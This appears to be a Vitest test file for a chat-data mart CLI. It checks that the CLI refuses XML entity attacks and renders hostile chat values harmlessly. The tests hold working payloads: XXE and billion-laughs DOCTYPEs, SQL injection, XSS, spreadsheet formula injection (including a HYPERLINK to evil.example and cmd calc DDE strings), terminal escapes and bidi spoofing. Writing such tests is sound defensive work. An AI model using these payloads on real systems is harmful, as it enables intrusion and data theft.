import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, test } from 'vitest';
import { escapeControlsInLines, toJsonText } from '../../src/model/text.js';
import { parseAdataSpec, readAdataSpec } from '../../src/spec/adata-spec.js';
import { checkAdataSpec } from '../../src/spec/check-adata-spec.js';
import { readKvpMap } from '../../src/spec/kvp-map.js';
import { freshDatabases, freshMart, query } from '../support/databases.js';
import { encodedIdb, writeBytes } from '../support/encoded-idb.js';
import { callProgram } from '../support/every-command.js';
import { runCycle, type Urls } from '../support/histories.js';
import { readFacts, readOpenDiscards } from '../support/mart-content.js';
import { problemOf } from '../support/problem-of.js';
import { runCli } from '../support/run-cli.js';
import { temporaryFolder } from '../support/temporary-folder.js';
import { writeUserData } from '../support/user-data.js';

describe('an attached-data specification', () => {
  const fileWith = (content: string | Buffer): string => {
    const file = path.join(temporaryFolder(), 'spec.xml');
    writeFileSync(file, content);
    return file;
  };
  const problem = (content: string | Buffer): Promise<string> => problemOf(() => readAdataSpec(fileWith(content)));
  const key = (name: string): string => `<key name="${name}" source="userdata" history="all"/>`;
  const spec = (keys: string, head = ''): string => `${head}<adata_spec><public>${keys}</public></adata_spec>`;

  /** If obeyed, each would exhaust memory or read something that the checker must not read. */
  const DOCTYPES: Readonly<Record<string, string>> = {
    'entities that grow by ten in each of ten steps': `<!DOCTYPE a [<!ENTITY e0 "${'x'.repeat(10)}">${Array.from({ length: 10 }, (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`).join('')}]>`,
    'one long entity, used often': `<!DOCTYPE a [<!ENTITY e10 "${'x'.repeat(100_000)}">]>`,
    'an entity in a file': '<!DOCTYPE a [<!ENTITY e10 SYSTEM "file:///etc/hostname">]>',
    'an entity on another machine': '<!DOCTYPE a [<!ENTITY e10 SYSTEM "http://127.0.0.1:1/">]>',
    'a definition on another machine': '<!DOCTYPE a SYSTEM "http://127.0.0.1:1/a.dtd">',
    'parameter entities': '<!DOCTYPE a [<!ENTITY % p SYSTEM "file:///etc/hostname">%p;]>',
    'an entity that refers to itself': '<!DOCTYPE a [<!ENTITY e10 "&e10;">]>',
  };

  test.each(Object.entries(DOCTYPES))('%s: refused, nothing is expanded', async (_, doctype) => {
    const told = await problem(spec(key('&e10;').repeat(100), doctype));
    expect(told).toContain('a DOCTYPE is not allowed here');
    expect(told.length).toBeLessThan(10_000);
  });

  test('UTF-16 is read like UTF-8; a wrong encoding declaration is refused', async () => {
    const text = spec(key('a'), '<!DOCTYPE a SYSTEM "file:///etc/hostname">');
    expect(await problem(Buffer.from(`\uFEFF${text}`, 'utf16le'))).toContain('a DOCTYPE is not allowed here');
    expect(await problem(`<?xml version="1.0" encoding="utf-7"?>${spec(key('a'))}`)).toContain('is not valid utf-7');
    expect(await problem(Buffer.from([0xff, 0xfe, 0x3c]))).toContain('is not valid utf-16le');
  });

  test('is read no further than it may be long, even if the file has no end', async () => {
    // Reported once: anything deeper is not examined.
    expect((await problem('<a>'.repeat(1_300_000))).match(/nested more than 32 deep/g)).toHaveLength(1);
    expect(await problem('<a>'.repeat(1_400_000))).toContain('has over 4194304 bytes');
    expect(await problemOf(() => readAdataSpec('/dev/zero'))).toContain('has over 4194304 bytes');
    const manyKeys = await problem(spec('<key/>'.repeat(690_000)));
    expect(manyKeys).toMatch(/… and \d+ more$/);
    const manyAttributes = Array.from({ length: 200_000 }, (_, at) => `a${at}=""`).join(' ');
    expect(readAdataSpec(fileWith(spec(`<key name="a" source="userdata" history="all" ${manyAttributes}/>`))).keys).toHaveLength(1);
  });

  test('names of built-in properties are ordinary names', () => {
    const names = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf'];
    const read = parseAdataSpec(spec(names.map(key).join('')), 'spec.xml');
    expect(read.keys.map(({ name }) => name)).toEqual(names);
    expect(checkAdataSpec(read, readKvpMap())).toMatchObject({ captured: 0, warnings: [] });
    expect(parseAdataSpec(spec('<__proto__/><key __proto__="x" name="a" source="userdata" history="all"/>'), 'spec.xml').keys).toHaveLength(
      1,
    );
    expect({}).not.toHaveProperty('name');
  });

  test.each([[], ['--json']])('what it names does not steer the terminal %s', async (...form) => {
    const file = fileWith(spec(key('csg_LanguageName&#x2028;')));
    const { text, printed } = await callProgram(['spec', 'check', file, ...form], { environment: {}, workingFolder: '/' });
    expect(text).toContain('keys-not-captured');
    expect(printed).toMatch(/csg_LanguageName\\u\{?2028/);
    expect(OBEYED.exec(printed)).toBeNull();
  });
});

/** What an attacker could write into a chat window, aimed at a program or a person that reads it. */
const HOSTILE: Readonly<Record<string, string>> = {
  sql: `'); drop table chat_session_fact; --`,
  'sql-copy': `\\.\n'; delete from infomart.chat_session_fact; --`,
  html: `<script>alert(1)</script><img src=x onerror=alert(1)>`,
  markdown: '[x](javascript:alert(1)) | a | `b`',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"x")',
  'formula-plus': "+1+cmd|' /C calc'!A0",
  'formula-minus': "-2+3+cmd|' /C calc'!A0",
  'formula-at': "@SUM(1+1)*cmd|' /C calc'!A0",
  terminal: '\u001b]0;owned\u0007\u001b[2J\u001b[31mred',
  'terminal-c1': '\u009b2Jx\u009d0;owned\u009c',
  overwrite: 'a\rb\b\b\u007fc',
  'turned-around': 'user\u202egnp.exe\u2066x\u2069',
  'line-separators': 'a\u2028b\u2029c\u0085d',
  prototype: '__proto__',
  template: '${process.env.HOME} {{7*7}} %n%s #{x}',
};

const OBEYED = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066\u2067]/u;

describe('values of KVPs', () => {
  let urls: Urls;
  beforeAll(async () => {
    urls = await freshDatabases();
    await writeUserData(
      urls.idbUrl,
      Object.entries(HOSTILE).flatMap(([name, text]) =>
        [
          ['ChatServerSessionStartedAt', '2026-03-01T10:07:00Z'],
          ['ChatServerSessionClosedAt', '2026-03-01T10:17:00Z'],
          ['csg_MediaOrigin', text],
          ['csg_LanguageName', text],
          ['csg_ChatSessionID', text],
          ['csg_SessionEndedReason', text],
          ['csg_SessionTotalTime', text],
          ['csg_MediaType', text],
          // A key whose name is special in JavaScript objects, and an unknown one.
          ['__proto__', text],
        ].map(([keyname, value]) => [`${name.slice(0, 30)}${text.slice(0, 10)}`, keyname!, value!] as const),
      ),
    );
    await runCycle(urls);
  });

  const call = (...args: string[]) => callOn(urls.martUrl, ...args);
  const callOn = async (martUrl: string, ...args: string[]): Promise<{ text: string; printed: string }> => {
    const environment = { CHATMART_IDB_URL: urls.idbUrl, CHATMART_MART_URL: martUrl };
    const { failed, ...said } = await callProgram(args, { environment, workingFolder: temporaryFolder() });
    expect({ args, failed, said }).toMatchObject({ failed: false });
    return said;
  };
  const march = ['--from', '2026-03-01', '--to', '2026-03-03'];
  test('are stored as they are', async () => {
    const facts = await readFacts(urls.martUrl);
    for (const column of ['media_origin', 'language_name', 'chat_session_id'])
      expect(sorted(facts.map((fact) => String(fact[column])))).toEqual(sorted(Object.values(HOSTILE)));
    const measures = (await readOpenDiscards(urls.martUrl)).filter((discard) => discard['keyname'] === 'csg_SessionTotalTime');
    expect(sorted(measures.map((discard) => String(discard['raw_value'])))).toEqual(sorted(Object.values(HOSTILE)));
    expect({}).not.toHaveProperty('csg_SessionTotalTime');
  });

  test.each([
    ['a report', ['report', 'chat-termination', '--by', 'media-origin,language,ended-reason,media-type', ...march]],
    ['a query', ['sql', 'select * from chat_session_dim']],
    ['names of columns', ['sql', `select 1 as "\u001b[2J\u202e"`]],
    ['discards', ['discards', 'list', '--limit', '1000']],
    ['the status', ['status', '--check']],
    ['the doctor', ['doctor']],
    ['a run', ['run']],
    ['a backfill', ['backfill', ...march]],
    ['a report as JSON', ['report', 'chat-termination', '--by', 'media-origin', '--format', 'json', ...march]],
    ['a query as JSON', ['sql', 'select * from chat_session_dim', '--format', 'json']],
    ['discards as JSON', ['discards', 'list', '--json']],
    ['a backfill as JSON', ['backfill', '--json', ...march]],
  ])('shown to people they are not obeyed: %s', async (_, args) => {
    const { printed } = await call(...args);
    expect(printed.length).toBeGreaterThan(20);
    expect(OBEYED.exec(printed)).toBeNull();
  });

  test.each([
    ['run', []],
    ['backfill', march],
  ])('nor are they as codes that nobody knows, which a %s tells of what it loads', async (name, args) => {
    const { printed } = await callOn(await freshMart(), name, ...args);
    expect(printed).toMatch(/codes that the KVP map does not name were loaded unchanged: .*\\u\{1b\}/);
    expect(OBEYED.exec(printed)).toBeNull();
  });

  test("nor does a job's message in the status", async () => {
    await query(urls.martUrl, 'update infomart.ctl_etl_history set message = $1', [HOSTILE['terminal']]);
    const { printed } = await call('status');
    expect(printed).toContain('\\u{1b}]0;owned');
    expect(OBEYED.exec(printed)).toBeNull();
  });

  test('JSON has them exactly', async () => {
    const rows = JSON.parse((await call('sql', 'select media_origin from chat_session_dim where id > 0', '--format', 'json')).printed) as {
      media_origin: string;
    }[];
    expect(sorted(rows.map((row) => row.media_origin))).toEqual(sorted(Object.values(HOSTILE)));
    for (const text of Object.values(HOSTILE)) expect(JSON.parse(toJsonText({ [text]: [text] }))).toEqual({ [text]: [text] });
  });

  test.each([
    ['report', ['report', 'chat-termination', '--by', 'media-origin', '--format', 'csv', ...march], 'media_origin'],
    ['query', ['sql', 'select media_origin from chat_session_dim where id > 0', '--format', 'csv'], 'media_origin'],
  ])('CSV of a %s: what a spreadsheet would run has a quote before it, all else is exact', async (_, args, column) => {
    const lines = parse<Record<string, string>>((await call(...args)).printed, { columns: true, record_delimiter: '\n' });
    const expected = Object.values(HOSTILE).map((text) => (/^[=+\-@]/.test(text) ? `'${text}` : text));
    expect(sorted(lines.map((line) => line[column]!))).toEqual(sorted(expected));
  });

  test('CSV of a query: numbers and times are no formulas', async () => {
    const text = `select -1 as a, '-1.5'::numeric as b, '-infinity'::timestamp as c, '-00:00:05'::interval as d, '+12' as e, '-1+1' as f`;
    expect((await call('sql', text, '--format', 'csv')).printed).toBe(`a,b,c,d,e,f\n-1,-1.5,-infinity,-00:00:05,+12,'-1+1\n`);
  });
});

test('a message of the program shows what would steer a terminal', async () => {
  expect(escapeControlsInLines('a\u001b[2J\nb\u202e\u009b')).toBe('a\\u{1b}[2J\nb\\u{202e}\\u{9b}');
  const { code, stderr } = await runCli(['spec', 'check', '/nowhere/\u001b[2J\u202e.xml']);
  expect(code).toBe(2);
  expect(stderr).toMatch(/^error: \/nowhere\/\\u\{1b\}\[2J\\u\{202e\}\.xml cannot be read/);
});

test('bytes that are no UTF-8, in an IDB that stores any: each becomes U+FFFD, nothing else is lost', async () => {
  const pair = { idbUrl: await encodedIdb('SQL_ASCII'), martUrl: await freshMart() };
  const cases: Readonly<Record<string, readonly number[]>> = {
    'half a surrogate pair': [0xed, 0xa0, 0x80],
    'a surrogate pair': [0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80],
    'a slash in two bytes': [0xc0, 0xaf],
    'NUL in two bytes': [0xc0, 0x80],
    'beyond Unicode': [0xf4, 0x90, 0x80, 0x80],
    'a character without its end': [0xe2, 0x82],
  };
  const times = (guid: string) =>
    [
      [guid, 'ChatServerSessionStartedAt', Buffer.from('2026-03-01T10:07:00Z')],
      [guid, 'ChatServerSessionClosedAt', Buffer.from('2026-03-01T10:17:00Z')],
    ] as const;
  await writeBytes(
    pair.idbUrl,
    Object.entries(cases).flatMap(([guid, bytes]) => [
      ...times(guid),
      [guid, 'csg_MediaOrigin', Buffer.from([...Buffer.from('a'), ...bytes, ...Buffer.from('z')])] as const,
    ]),
  );
  await runCycle(pair);
  const facts = await readFacts(pair.martUrl);
  expect(facts.map((fact) => String(fact['media_origin']).replaceAll(/\uFFFD+/g, '?'))).toEqual(Object.keys(cases).map(() => 'a?z'));
  const discards = await readOpenDiscards(pair.martUrl);
  expect(sorted(discards.map((discard) => `${String(discard['guid'])} ${String(discard['keyname'])}`))).toEqual(
    sorted(Object.keys(cases).map((guid) => `${guid} csg_MediaOrigin`)),
  );
});

const sorted = (texts: readonly string[]): string[] => [...texts].sort();
